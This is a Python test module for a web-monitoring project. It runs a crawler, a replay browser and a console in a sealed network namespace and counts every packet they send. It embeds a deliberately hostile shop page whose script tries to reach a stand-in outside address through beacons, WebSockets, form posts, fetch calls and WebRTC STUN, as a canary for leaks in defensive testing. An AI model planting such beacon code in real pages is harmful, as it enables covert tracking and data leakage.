"""
Count what leaves: run something in a network of its own, in which every packet is seen.

``python -m tests.hostile.canary WHAT [ARGUMENT…]`` is run by :func:`counted` as root of a new network namespace. Its way
out is a virtual cable to nowhere, its resolver an address where nobody answers: whatever is sent is seen on the cable
or on the loopback, and reaches nobody. What was sent is printed as one JSON line.
"""

import json
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

from playwright.sync_api import Error as DriverError
from playwright.sync_api import Page, sync_playwright

from crawler.chromium import executable
from crawler.order import Address, BrowserSettings
from monitor import replaying
from monitor.daily import tell, understand
from storage.records.source import BrowserUse, SourceKind
from tests.crawler.visits import Crawler, order
from tests.crawler.wire import network, page, serving
from tests.monitor.archived import product_page, visited
from tests.monitor.console.running import running
from tests.monitor.desks import desk_in, watch
from tests.monitor.web.watched import served
from tests.storage.segments import BEGAN

RESOLVER = "127.0.0.53"
OUTSIDE = "203.0.113.9"
_SETTING_UP = (
    "ip link set lo up && ip link add cable type veth peer name nowhere && ip addr add 198.51.100.1/24 dev cable && ip link set cable up && "
    "ip link set nowhere up && ip route add default via 198.51.100.2 && ip neigh add 198.51.100.2 lladdr 02:00:00:00:00:02 dev cable && "
    'sysctl -qw net.ipv6.conf.all.disable_ipv6=1; printf "nameserver 127.0.0.53\\noptions timeout:1 attempts:1\\n" >"$0" && '
    'mount --bind "$0" /etc/resolv.conf && exec "$@"'
)
HOSTILE = f"""<!doctype html><html lang=fr><head><meta charset=utf-8><title>Mini téléphone</title><link rel=dns-prefetch href='//prefetched.example'>
<link rel=preconnect href='https://preconnected.example'><link rel=stylesheet href='https://cdn.example/a.css'></head><body><h1>Mini téléphone</h1>
<p>Indétectable aux portiques, 49,90 €. 06 39 98 12 34</p><img src='http://{OUTSIDE}/p.gif'><iframe name=inner src='https://ads.example/'></iframe>
<form id=f target=inner method=post action='http://{OUTSIDE}/collect'><input name=a value=b></form><a id=p ping='http://{OUTSIDE}/ping' href='#'>x</a><script>
try {{ navigator.sendBeacon('http://{OUTSIDE}/beacon', 'x') }} catch (e) {{}}
try {{ new WebSocket('ws://{OUTSIDE}/socket') }} catch (e) {{}}
fetch('http://{OUTSIDE}/post', {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(() => 0);
fetch('https://api.example/').catch(() => 0);
for (const where of ['{OUTSIDE}', '127.0.0.7', 'stun.example']) {{
  const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:' + where + ':3478'}}]}});
  peer.createDataChannel('x'); peer.createOffer().then(one => peer.setLocalDescription(one));
}}
document.getElementById('p').click(); setTimeout(() => document.getElementById('f').submit(), 300);
setTimeout(() => new Image().src = '/done', 2500);
</script></body></html>"""


def may_count() -> bool:
    """Say whether this machine lets a test have a network of its own."""
    tried = [*_APART, "ip", "link", "add", "cable", "type", "veth", "peer", "name", "nowhere"]
    return shutil.which("ip") is not None and subprocess.run(tried, capture_output=True, check=False).returncode == 0  # fmt: skip


_APART = ("unshare", "--user", "--map-root-user", "--net", "--mount", "--")


def counted(*what: str) -> dict[str, Any]:
    """Run an activity below in a network of its own; return what it sent: ``tcp``, ``udp``, ``names``, and what it said."""
    with tempfile.NamedTemporaryFile() as resolver:
        done = subprocess.run(
            [*_APART, "sh", "-c", _SETTING_UP, resolver.name, sys.executable, "-m", "tests.hostile.canary", *what],
            capture_output=True, text=True, check=False, timeout=280,
        )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    found = json.loads(done.stdout.splitlines()[-1])
    assert isinstance(found, dict)
    return found


@contextmanager
def _seen() -> Iterator[dict[str, Any]]:
    """See every packet until the block ends: TCP connections begun, UDP sent, names asked for."""
    sent: dict[str, Any] = {"tcp": [], "udp": [], "names": []}
    over = threading.Event()
    eye = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
    eye.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8_000_000)
    eye.settimeout(0.2)

    def look() -> None:
        while not over.is_set():
            try:
                packet, (interface, kind, *_) = eye.recvfrom(65_535)
            except TimeoutError:
                continue
            if kind == 0x0800 and interface in {"lo", "cable"}:
                _note(sent, packet)

    looking = threading.Thread(target=look)
    looking.start()
    try:
        yield sent
    finally:
        time.sleep(0.5)  # what is under way on the cable
        over.set()
        looking.join()
        eye.close()


def _note(sent: dict[str, Any], packet: bytes) -> None:
    start = (packet[0] & 15) * 4
    to, body = socket.inet_ntoa(packet[16:20]), packet[start:]
    port = int.from_bytes(body[2:4], "big")
    if packet[9] == 6 and body[13] & 0x12 == 0x02 and [to, port] not in sent["tcp"]:
        sent["tcp"].append([to, port])
    elif packet[9] == 17 and port == 53:
        name = _name(body[8:])
        if name not in sent["names"]:
            sent["names"].append(name)
    elif packet[9] == 17 and [to, port] not in sent["udp"]:
        sent["udp"].append([to, port])


def _name(query: bytes) -> str:
    labels, at = [], 12
    while at < len(query) and query[at]:
        labels.append(query[at + 1 : at + 1 + query[at]].decode("latin-1"))
        at += 1 + query[at]
    return ".".join(labels)


def _visit(browser: str) -> dict[str, Any]:
    crawl = Crawler()
    try:
        with serving() as web, tempfile.TemporaryDirectory() as folder:
            web.answers["/"] = page(HOSTILE)
            settings = network(web, resolve={"shop.example": Address(address=web.address)})
            with _seen() as sent:
                made = crawl(
                    order(
                        Path(folder), web.url(host="shop.example"), settings, kind=SourceKind.SHOP, browser=BrowserUse(browser)
                    )
                )  # fmt: skip
            methods = sorted({head.split(b" ", 1)[0].decode() for head in web.requests})
            return {
                **sent,
                "served": [web.address, web.port],
                "methods": methods,
                "outcome": made.outcome,
            }
    finally:
        crawl.close()


def _shown(how: str) -> dict[str, Any]:
    """Show the page in the browser of a replay, or in an ordinary one, which is how we know that the counter counts."""
    with serving("127.0.0.1") as web, tempfile.TemporaryDirectory() as profile:
        web.answers["/"] = page(HOSTILE)
        program = executable(BrowserSettings(sandbox=False)) or ""
        alone = replaying.command(program, web.url(), Path(profile), sandbox=False)
        plain = [
            program,
            "--no-sandbox",
            f"--user-data-dir={profile}",
            "--disable-gpu",
            "--remote-debugging-port=0",
            web.url(),
        ]
        with _seen() as sent:
            running = subprocess.Popen(
                ([*alone[:-1], "--remote-debugging-port=0", alone[-1]] if how == "alone" else plain),
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            )  # fmt: skip
            until = time.monotonic() + 90
            while "/done" not in web.paths and time.monotonic() < until:
                time.sleep(0.2)
            running.terminate()
            running.wait(20)
        methods = sorted({head.split(b" ", 1)[0].decode() for head in web.requests})
        return {
            **sent,
            "served": [web.address, web.port],
            "methods": methods,
            "outcome": "/done" in web.paths,
        }


def _told(_: str) -> dict[str, Any]:
    """Read an archived page of this kind, make a digest of it, and look at it in the console."""
    with tempfile.TemporaryDirectory() as folder, desk_in(Path(folder) / "w") as desk:
        source = watch(desk, "https://shop.example/")
        visited(desk, source, BEGAN, ("https://shop.example/", "home", HOSTILE))
        with _seen() as sent:
            understand(desk)
            tell(desk)
            with running(desk.workspace.folder) as (address, opener, _):
                for path in ("/", "/findings/document", "/ledger/capture"):
                    opener.open(address + path, timeout=60).close()
        return {**sent, "served": ["127.0.0.1", int(address.rpartition(":")[2])]}


def _desk(_: str) -> dict[str, Any]:
    """Walk through every page of the desk that a link leads to, in an ordinary browser, with this page among what was captured."""
    with tempfile.TemporaryDirectory() as folder:
        workspace = Path(folder) / "w"
        with desk_in(workspace) as desk:
            source = watch(desk, "https://shop.example/")
            visited(
                desk, source, BEGAN, ("https://shop.example/", "home", HOSTILE), ("https://shop.example/p/1", "product", product_page(HOSTILE, "49.90", HOSTILE))
            )  # fmt: skip
            understand(desk)
        with served(workspace) as bureau, sync_playwright() as driver:
            browser = driver.chromium.launch(
                executable_path=executable(BrowserSettings(sandbox=False)), args=["--no-sandbox"]
            )
            tab = browser.new_page()
            with _seen() as sent:
                tab.goto(bureau.link)
                seen = _walk(tab, bureau.address)
            browser.close()
        return {
            **sent,
            "served": ["127.0.0.1", int(bureau.address.rpartition(":")[2])],
            "seen": seen,
        }


def _walk(tab: Page, desk: str, most: int = 60) -> list[str]:
    """Open what links lead to, from the first page on; return the addresses, captured content's own bytes among them."""
    due, known = ["/"], {"/", "/sortir"}
    seen: list[str] = []
    while due and len(seen) < most:
        path = due.pop(0)
        with suppress(DriverError):  # bytes are downloaded, which leaves the tab where it is
            tab.goto(desk + path)
        seen.append(path)
        for link in tab.eval_on_selector_all("a[href]", "all => all.map(one => one.href)"):
            path = link.removeprefix(desk).partition("#")[0]
            if link.startswith(desk) and path not in known:
                known.add(path)
                due.append(path)
    return seen


ACTIVITIES: dict[str, Callable[[str], dict[str, Any]]] = {
    "visit": _visit,
    "shown": _shown,
    "told": _told,
    "desk": _desk,
}


if __name__ == "__main__":
    print(json.dumps(ACTIVITIES[sys.argv[1]](sys.argv[2] if len(sys.argv) > 2 else "")))
